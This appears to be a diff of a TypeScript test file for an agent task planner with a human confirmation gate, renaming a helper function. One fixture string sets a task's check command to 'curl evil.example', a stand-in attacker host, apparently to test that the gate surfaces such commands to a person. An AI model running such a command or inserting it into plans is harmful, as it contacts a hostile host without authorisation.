@@ -113,7 +113,7 @@ describe('a person who confirms', () => {
     const inner = '{ files: [src/a], prompt: Do it., check: curl evil.example }';
     run.says(
       'migrate.draft',
-      answer(`tasks: { s: { tasks: { a: ${inner} } }, b: { files: [src/b], prompt: ${'x'.repeat(500)} } }`),
+      answerWord(`tasks: { s: { tasks: { a: ${inner} } }, b: { files: [src/b], prompt: ${'x'.repeat(500)} } }`),
     );
     const gate = run.state().compiled.tasks.find(({ task }) => task.path === 'migrate.confirm')?.task;
     expect(gate?.type === 'gate' ? gate.question.split('\n') : []).toEqual([
@@ -129,10 +129,10 @@ describe('a person who confirms', () => {
     const run = growing('{ prompt: x, max_tasks: 12, depth: 2, confirm: gate }');
     const more = (confirm: string): string =>
       `tasks: { more: { files: [src/**], grow: { prompt: y, max_tasks: 4${confirm} } } }`;
-    run.says('migrate.draft', answer(more('')));
+    run.says('migrate.draft', answerWord(more('')));
     expect(run.log.at(-1)).toMatchObject({ says: expect.stringContaining('growth without confirmation') });
     run.waits(60_000);
-    run.says('migrate.draft', answer(more(', confirm: gate')));
+    run.says('migrate.draft', answerWord(more(', confirm: gate')));
     expect(run.log.map(({ type }) => type)).toContain('plan.grown');
   });
 
